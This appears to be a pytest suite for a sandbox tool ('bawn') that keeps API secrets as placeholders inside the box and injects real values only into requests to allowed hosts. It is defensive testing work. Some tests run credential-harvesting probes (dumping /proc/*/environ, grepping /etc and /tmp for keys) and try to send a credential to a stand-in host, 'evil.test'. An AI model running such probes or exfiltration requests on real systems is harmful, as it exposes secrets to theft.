# SPDX-License-Identifier: Apache-2.0
"""Credentials at the edge: the box holds placeholders, the upstream gets values, nobody else does."""
import base64
import json
import os

import pytest
from conftest import BAWN

VALUE = "sk-live-0123456789-not-for-the-box"


@pytest.fixture
def secret(caller):
    """secret("NAME", "value") sets one for `bawn run`; they are gone afterwards."""
    names = []

    def put(name, value, verb="set"):
        done = caller(BAWN, "secret", verb, name, "--json", input=value + "\n")
        assert done.returncode == 0, done.stderr
        assert value not in done.stdout + done.stderr
        names.append(name)
        return json.loads(done.stdout)["placeholder"]

    yield put
    for name in dict.fromkeys(names):
        caller(BAWN, "secret", "rm", name)


def rule(**more):
    return {"name": "api", "hosts": ["api.test"], "action": "allow", **more}


def requests_of(mark, host="api.test"):
    return [entry for entry in mark.log("http") if entry["host"] == host]


def fields_of(entry):
    return {name.lower(): value for name, value in entry["fields"]}


def run(box, world, credentials, *argv, **more):
    mark = world.mark()
    path = box.profile([rule(credentials=credentials)])
    done = box("--profile", path, "--", *argv, **more)
    return done, requests_of(mark)


BEARER = {"secret": "api-key", "header": "Authorization", "format": "Bearer {}", "env": "API_KEY"}
CURL = ("/usr/bin/curl", "-sS", "-o", "/dev/null", "-w", "%{http_code}")


def test_a_header_is_filled_in(box, world, secret):
    placeholder = secret("api-key", VALUE)
    done, seen = run(box, world, [BEARER], "/bin/sh", "-c",
                     "echo $API_KEY; curl -sS -o /dev/null -w '%{http_code}' "
                     "-H \"Authorization: Bearer $API_KEY\" https://api.test/quiet")
    assert done.out == f"{placeholder}\n200", done
    assert fields_of(seen[0])["authorization"] == f"Bearer {VALUE}"
    assert "bawn-ph-" not in json.dumps(seen)


def test_a_header_that_is_not_there_is_added(box, world, secret):
    secret("api-key", VALUE)
    done, seen = run(box, world, [BEARER], *CURL, "https://api.test/quiet")
    assert done.out == "200", done
    assert fields_of(seen[0])["authorization"] == f"Bearer {VALUE}"


def test_the_box_never_sees_the_value(box, world, secret):
    """Not in memory it can read, its environment, files, or what bawn prints."""
    secret("api-key", VALUE)
    done, _ = run(box, world, [BEARER], "/bin/sh", "-c",
                  "env; cat /proc/*/environ /proc/*/cmdline 2>/dev/null | tr '\\0' '\\n'; "
                  "grep -rs sk-live /run /tmp /etc 2>/dev/null; "
                  "curl -sS -o /dev/null https://api.test/quiet")
    assert done.status == 0, done
    assert VALUE not in done.out + done.err


def test_basic_credentials_query_and_json(box, world, secret):
    placeholder = secret("api-key", VALUE)
    done, seen = run(box, world, [{"secret": "api-key", "basic": "bot"}], *CURL, "-u", f"me:{placeholder}",
                     "https://api.test/quiet")
    assert done.out == "200", done
    word = fields_of(seen[0])["authorization"].split()[1]
    assert base64.b64decode(word).decode() == f"bot:{VALUE}"

    done, seen = run(box, world, [{"secret": "api-key", "query": "key"}], *CURL,
                     f"https://api.test/quiet?a=1&key={placeholder}")
    assert done.out == "200" and seen[0]["target"] == f"/quiet?a=1&key={VALUE}", done

    done, seen = run(box, world, [{"secret": "api-key", "json": "/auth/key"}], *CURL, "--json",
                     json.dumps({"auth": {"key": placeholder}, "n": 1}), "https://api.test/quiet")
    assert done.out == "200" and json.loads(seen[0]["body"]) == {"auth": {"key": VALUE}, "n": 1}, done


def test_netrc(box, world, secret):
    placeholder = secret("api-key", VALUE)
    with open(os.path.join(box.work, "netrc"), "w", encoding="ascii") as f:
        f.write(f"machine api.test login me password {placeholder}\n")
    box.caller.own(f.name)
    done, seen = run(box, world, [{"secret": "api-key", "basic": "me"}], *CURL, "--netrc-file", "netrc",
                     "https://api.test/quiet")
    assert done.out == "200", done
    assert base64.b64decode(fields_of(seen[0])["authorization"].split()[1]).decode() == f"me:{VALUE}"


@pytest.mark.parametrize("argv", [
    ("-H", "X-Other: {}", "https://api.test/quiet"),
    ("-H", "Cookie: a={}", "https://api.test/quiet"),
    ("-d", "key={}", "https://api.test/quiet"),
    ("https://api.test/{}",),
    ("https://api.test/?q={}",),
], ids=["header", "cookie", "body", "path", "query"])
def test_a_placeholder_elsewhere_goes_nowhere(box, world, secret, argv):
    placeholder = secret("api-key", VALUE)
    mark = world.mark()
    path = box.profile([rule(credentials=[BEARER])])
    done, report = box.json("--profile", path, "--", *CURL, *(word.format(placeholder) for word in argv))
    assert done.out == "403", done
    assert requests_of(mark) == []
    assert any("placeholder" in json.dumps(v) for v in report["violations"]), report["violations"]
    assert VALUE not in json.dumps(report)


def test_another_host_gets_no_value(box, world, secret):
    """Neither one that a rule without the credential allows, nor by way of a redirect."""
    placeholder = secret("api-key", VALUE)
    mark = world.mark()
    path = box.profile([rule(credentials=[BEARER]), {"name": "evil", "hosts": ["evil.test"], "action": "allow"}])
    done = box("--profile", path, "--", *CURL, "-H", f"Authorization: Bearer {placeholder}", "http://evil.test/quiet")
    assert done.out == "403", done
    done = box("--profile", path, "--", *CURL, "http://evil.test/quiet")
    assert done.out == "200", done
    assert VALUE not in json.dumps(mark.log())


def test_an_answer_that_repeats_the_value_is_cut(box, world, secret):
    secret("api-key", VALUE)
    done, seen = run(box, world, [BEARER], "/usr/bin/curl", "-sS", "https://api.test/echo")
    assert fields_of(seen[0])["authorization"] == f"Bearer {VALUE}"
    assert VALUE not in done.out + done.err and "repeats the credential" in done.err, done


def test_rotation_and_removal(box, world, secret, caller):
    placeholder = secret("api-key", VALUE)
    assert secret("api-key", "second", verb="rotate") == placeholder
    done, seen = run(box, world, [BEARER], *CURL, "https://api.test/quiet")
    assert fields_of(seen[0])["authorization"] == "Bearer second", done
    assert caller(BAWN, "secret", "rm", "api-key").returncode == 0
    done, seen = run(box, world, [BEARER], *CURL, "-H", f"Authorization: Bearer {placeholder}",
                     "https://api.test/quiet")
    assert done.out == "403" and seen == [], done
    done, seen = run(box, world, [BEARER], *CURL, "https://api.test/quiet")
    assert done.out == "200" and "authorization" not in fields_of(seen[0]), done


def test_git_gets_its_credentials(box, world, secret):
    secret("git-token", VALUE)
    mark = world.mark()
    path = box.profile([{"name": "git", "hosts": ["git.test"], "action": "allow", "credentials": [
        {"secret": "git-token", "basic": "bot", "file": "~/.git-credentials"}]}])
    done = box("--profile", path, "--", "/bin/sh", "-c",
               "printf 'protocol=https\\nhost=git.test\\n\\n' | git credential fill; "
               "git ls-remote https://git.test/demo.git")
    assert "username=bot\npassword=bawn-ph-" in done.out, done
    seen = requests_of(mark, "git.test")
    assert base64.b64decode(fields_of(seen[0])["authorization"].split()[1]).decode() == f"bot:{VALUE}", done


def test_a_passphrase_seals_them(caller, box, world, work):
    """With a state directory of its own."""
    state, word = os.path.join(work, "state"), os.path.join(work, "passphrase")
    with open(word, "w", encoding="ascii") as f:
        f.write("correct horse\n")
    caller.own(word)
    os.chmod(word, 0o600)
    env = {"BAWN_STATE_DIR": state}
    script = ("import os,pty,sys,time\n"
              "pid,fd=pty.fork()\n"
              "if pid==0: os.execv(sys.argv[1],[sys.argv[1],'secret','set','api-key','--passphrase','-f',sys.argv[2]])\n"
              "for _ in range(2):\n"
              "  while not os.read(fd,100).rstrip().endswith(b':'): pass\n"
              "  time.sleep(.1); os.write(fd,b'correct horse\\n')\n"
              "sys.exit(os.waitstatus_to_exitcode(os.waitpid(pid,0)[1]))\n")
    value = os.path.join(work, "value")
    with open(value, "w", encoding="ascii") as f:
        f.write(VALUE)
    caller.own(value)
    done = caller("/usr/bin/python3", "-c", script, BAWN, value, env=env, timeout=30)
    assert done.returncode == 0, done
    path = box.profile([rule(credentials=[BEARER])])
    mark = world.mark()
    done = box("--profile", path, "--", *CURL, "https://api.test/quiet", env=env)
    assert done.out != "200" and requests_of(mark) == [], done
    done = box("--profile", path, "--", *CURL, "https://api.test/quiet", env={**env, "BAWN_PASSPHRASE_FILE": word})
    assert done.out == "200", done
    assert fields_of(requests_of(mark)[0])["authorization"] == f"Bearer {VALUE}"
